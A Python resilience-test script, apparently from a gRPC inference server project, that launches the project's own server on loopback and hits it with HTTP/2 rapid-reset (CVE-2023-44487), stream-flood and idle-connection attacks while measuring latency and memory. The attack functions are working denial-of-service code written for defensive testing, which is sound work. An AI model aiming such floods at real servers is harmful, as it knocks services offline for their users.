"""HTTP/2 abuse against the gRPC port, loopback only and bounded, with what the server did.

    python -m scripts.attack_http2 [--resets N] [--idle N] [--idle-s S] [--max-connections N]

Starts ``python -m src serve`` (the demo models) on free ports with the idle timeout and
the connection cap given, then, one after the other:

- **rapid reset** (CVE-2023-44487): open a ModelInfer stream and reset it at once, over
  and over, from one client that reconnects whenever the server closes its connection,
  until N streams were reset (default 100,000);
- **stream flood**: N streams opened on one connection (HEADERS only: no request, no
  reset), as fast as it takes them (default 20,000);
- **idle connections**: N connections (default 2,000) that send the HTTP/2 preface and
  then nothing, held until the server closes them or 3 idle timeouts have passed.

Meanwhile a grpcio client asks ``ServerReady`` every 0.1 s. For each attack it prints the
server's RSS before, after, and 10 s after, the prober's worst latency, and what the
server did (GOAWAYs and their codes, connections closed, refused).
"""

from __future__ import annotations

import argparse
import os
import select
import socket
import subprocess
import sys
import threading
import time
from typing import Any

import grpc
import h2.config
import h2.connection
import h2.events
from h2.errors import ErrorCodes

from tests.support import ROOT, free_port
from tests.support.grpc_stubs import load_stubs

HEADERS = [
    (":method", "POST"), (":scheme", "http"), (":path", "/inference.GRPCInferenceService/ModelInfer"),
    (":authority", "127.0.0.1"), ("content-type", "application/grpc"), ("te", "trailers"),
]  # fmt: skip


def rss_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return float("nan")


class Prober:
    """``ServerReady`` every 0.1 s on one channel; the worst latency since ``reset()``."""

    def __init__(self, port: int) -> None:
        pb2, pb2_grpc = load_stubs()
        self._stub = pb2_grpc.GRPCInferenceServiceStub(grpc.insecure_channel(f"127.0.0.1:{port}"))
        self._request = pb2.ServerReadyRequest()
        self.worst = 0.0
        self.failures = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.wait(0.1):
            started = time.perf_counter()
            try:
                self._stub.ServerReady(self._request, timeout=10)
            except grpc.RpcError:
                self.failures += 1
            self.worst = max(self.worst, time.perf_counter() - started)

    def reset(self) -> None:
        self.worst, self.failures = 0.0, 0

    def stop(self) -> None:
        self._stop.set()
        self._thread.join()


def _connect(port: int) -> tuple[socket.socket, h2.connection.H2Connection]:
    sock = socket.create_connection(("127.0.0.1", port))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def _readable(sock: socket.socket, timeout_s: float = 0.0) -> bool:
    poller = select.poll()  # not select(): thousands of sockets pass its 1024 limit
    poller.register(sock, select.POLLIN)
    return bool(poller.poll(timeout_s * 1000))


def _read_ready(sock: socket.socket, conn: Any, said: list[str]) -> bool:
    """What the server has sent so far; False once it has closed the connection or said
    GOAWAY."""
    while _readable(sock):
        try:
            data = sock.recv(1 << 20)
        except ConnectionResetError:
            return False
        if not data:
            return False
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                said.append(ErrorCodes(event.error_code).name)
                return False
        sock.sendall(conn.data_to_send())
    return True


def rapid_reset(port: int, total: int) -> dict[str, Any]:
    sent, connections, goaways = 0, 0, []
    while sent < total:
        sock, conn = _connect(port)
        connections += 1
        stream_id, open_ = 1, True
        try:
            while open_ and sent < total:
                for _ in range(100):
                    conn.send_headers(stream_id, HEADERS)
                    conn.reset_stream(stream_id, ErrorCodes.CANCEL)
                    stream_id += 2
                sock.sendall(conn.data_to_send())
                sent += 100
                open_ = _read_ready(sock, conn, goaways)
            deadline = time.monotonic() + 2  # what the server still says, and its close
            while open_ and time.monotonic() < deadline:
                _readable(sock, 0.05)
                open_ = _read_ready(sock, conn, goaways)
        except (BrokenPipeError, ConnectionResetError):
            pass
        finally:
            sock.close()
    return {"resets sent": sent, "connections used": connections,
            "GOAWAYs": dict((code, goaways.count(code)) for code in set(goaways))}  # fmt: skip


def stream_flood(port: int, total: int) -> dict[str, Any]:
    """Streams opened (HEADERS, no request, no reset) as fast as one connection takes them,
    held open until the end."""
    sock, conn = _connect(port)
    said: list[str] = []
    sent, stream_id, open_ = 0, 1, True
    try:
        while open_ and sent < total:
            for _ in range(500):
                conn.send_headers(stream_id, HEADERS)
                stream_id += 2
            sock.sendall(conn.data_to_send())
            sent += 500
            open_ = _read_ready(sock, conn, said)
        deadline = time.monotonic() + 2
        while open_ and time.monotonic() < deadline:
            _readable(sock, 0.05)
            open_ = _read_ready(sock, conn, said)
    except (BrokenPipeError, ConnectionResetError):
        open_ = False
    finally:
        sock.close()
    return {"streams opened": sent, "connection still open": open_,
            "GOAWAYs": dict((code, said.count(code)) for code in set(said))}  # fmt: skip


def idle_connections(port: int, count: int, wait_s: float) -> dict[str, Any]:
    held = [_connect(port) for _ in range(count)]
    open_at_start = len(held)
    goaways: list[str] = []
    deadline = time.monotonic() + wait_s
    alive = list(held)
    while alive and time.monotonic() < deadline:
        time.sleep(0.2)
        alive = [(s, c) for s, c in alive if _read_ready(s, c, goaways)]
    for sock, _ in held:
        sock.close()
    return {"opened": open_at_start, "still open at the end": len(alive),
            "GOAWAYs": dict((code, goaways.count(code)) for code in set(goaways))}  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--resets", type=int, default=100_000)
    parser.add_argument("--idle", type=int, default=2_000)
    parser.add_argument("--flood", type=int, default=20_000)
    parser.add_argument("--idle-s", type=float, default=5.0)
    parser.add_argument("--max-connections", type=int, default=10_000)
    args = parser.parse_args()

    http_port, grpc_port = free_port(), free_port()
    env = dict(
        os.environ,
        STREAMWISE_GRPC_MAX_CONNECTION_IDLE_S=str(args.idle_s),
        STREAMWISE_GRPC_MAX_CONNECTIONS=str(args.max_connections),
    )
    argv = [sys.executable, "-m", "src", "serve", "--http-port", str(http_port),
            "--grpc-port", str(grpc_port)]  # fmt: skip
    server = subprocess.Popen(argv, cwd=ROOT, env=env, stderr=subprocess.DEVNULL)
    try:
        with grpc.insecure_channel(f"127.0.0.1:{grpc_port}") as channel:
            grpc.channel_ready_future(channel).result(timeout=30)  # the server is up
        prober = Prober(grpc_port)
        time.sleep(1)
        for name, attack in (
            (f"rapid reset x {args.resets}", lambda: rapid_reset(grpc_port, args.resets)),
            (f"stream flood x {args.flood}", lambda: stream_flood(grpc_port, args.flood)),
            (f"{args.idle} idle connections (idle timeout {args.idle_s:g} s)",
             lambda: idle_connections(grpc_port, args.idle, 3 * args.idle_s)),
        ):  # fmt: skip
            before = rss_mib(server.pid)
            prober.reset()
            started = time.monotonic()
            result = attack()
            took = time.monotonic() - started
            after = rss_mib(server.pid)
            worst, failures = prober.worst, prober.failures
            time.sleep(10)
            print(
                f"{name}: {took:.1f} s; RSS {before:.0f} -> {after:.0f} MiB, "
                f"{rss_mib(server.pid):.0f} MiB 10 s later; prober worst {worst * 1e3:.0f} ms, "
                f"{failures} failed; {result}"
            )
        prober.stop()
    finally:
        server.terminate()
        server.wait(15)


if __name__ == "__main__":
    main()
